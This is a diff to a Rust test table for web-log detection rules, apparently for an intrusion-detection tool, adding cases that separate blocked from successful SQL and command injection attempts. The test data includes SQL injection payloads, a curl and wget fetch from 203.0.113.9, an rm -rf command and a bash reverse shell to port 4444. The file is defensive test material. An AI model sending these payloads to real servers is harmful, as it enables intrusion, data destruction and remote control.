@@ -280,7 +280,7 @@ pub(super) const CASES: &[Case] = &[
         finds: &[
             get!("/item?id=1+UNION+SELECT+name,+pass+FROM+users", "200"),
             get!("/item?id=-1%20union%20all%20select%201,2,3--", "500"),
-            get!("/item?id=1/**/union/**/select/**/null,null", "403"),
+            get!("/item?id=1/**/union/**/select/**/null,null", "200"),
             get!("/item?id=1'%20OR%20'1'='1", "200"),
             get!("/item?id=1%20or%201=1--", "200"),
             get!("/item?id=1%27%20AND%20SLEEP(5)--", "200"),
@@ -297,6 +297,22 @@ pub(super) const CASES: &[Case] = &[
             get!("/blog/select-from-where-explained", "200"),
             get!("/products?sort=price&order=asc&page=2", "200"),
             get!("/beds/sleep-well?model=x(2)", "200"),
+            get!("/search?q=sleep%288%29+mattress", "200"),
+            get!("/search?q=sleep(8)+mattress&page=2", "200"),
+            get!("/item?id=1'%20OR%20'1'='1", "403"),
+        ],
+    },
+    Case {
+        rule: "web_sql_injection_turned_away",
+        finds: &[
+            get!("/item?id=1/**/union/**/select/**/null,null", "403"),
+            get!("/?id=1'%20OR%20'1'='1", "404"),
+            get!("/item?id=1%27%20AND%20SLEEP(5)--", "429"),
+        ],
+        passes: &[
+            get!("/item?id=1'%20OR%20'1'='1", "200"),
+            get!("/item?id=1'%20OR%20'1'='1", "500"),
+            get!("/search?q=rock+and+roll", "404"),
         ],
     },
     Case {
@@ -308,9 +324,9 @@ pub(super) const CASES: &[Case] = &[
             get!("/ping?host=$(whoami)", "200"),
             get!("/ping?host=`uname%20-a`", "200"),
             get!("/ping?host=x%26%26curl+http://203.0.113.9/a.sh", "200"),
-            get!("/cgi-bin/x?/bin/sh+-c+id", "404"),
-            get!("/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m", "404"),
-            get!("/a?x=bash+-i+>%26+/dev/tcp/203.0.113.9/4444", "404"),
+            get!("/cgi-bin/x?/bin/sh+-c+id", "500"),
+            get!("/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m", "500"),
+            get!("/a?x=bash+-i+>%26+/dev/tcp/203.0.113.9/4444", "500"),
         ],
         passes: &[
             get!("/list?cat=shoes&id=5&sort=ls", "200"),
@@ -320,6 +336,20 @@ pub(super) const CASES: &[Case] = &[
             get!("/docs/bash-tutorial", "200"),
             get!("/search?q=curl+examples", "200"),
             get!("/a|b", "200"),
+            get!("/ping?host=127.0.0.1;cat+/etc/hosts", "404"),
+        ],
+    },
+    Case {
+        rule: "web_command_injection_turned_away",
+        finds: &[
+            get!("/cgi-bin/x?/bin/sh+-c+id", "404"),
+            get!("/setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m", "404"),
+            get!("/a?x=bash+-i+>%26+/dev/tcp/203.0.113.9/4444", "400"),
+        ],
+        passes: &[
+            get!("/ping?host=127.0.0.1;cat+/etc/hosts", "200"),
+            get!("/ping?host=127.0.0.1;cat+/etc/hosts", "500"),
+            get!("/list?cat=shoes&id=5&sort=ls", "404"),
         ],
     },
     Case {
@@ -360,8 +390,23 @@ pub(super) const CASES: &[Case] = &[
     },
     Case {
         rule: "web_not_found",
-        finds: &[get!("/missing", "404"), get!("/closed", "403")],
-        passes: &[get!("/", "200"), get!("/", "301"), get!("/", "500")],
+        finds: &[
+            get!("/missing", "404"),
+            get!("/closed", "403"),
+            get!("/wp-login.php", "404", "-", "Mozilla/5.0 (compatible; Googlebot/2.1)"),
+            get!("/.env", "404", "-", "Mozilla/5.0 (compatible; bingbot/2.0)"),
+        ],
+        passes: &[
+            get!("/", "200"),
+            get!("/", "301"),
+            get!("/", "500"),
+            get!("/produkte/betten/12.html", "404", "-", "Mozilla/5.0 (compatible; Googlebot/2.1)"),
+        ],
+    },
+    Case {
+        rule: "web_server_fault",
+        finds: &[get!("/", "500"), get!("/", "501")],
+        passes: &[get!("/", "502"), get!("/", "503"), get!("/", "404")],
     },
     Case {
         rule: "web_scanner_user_agent",
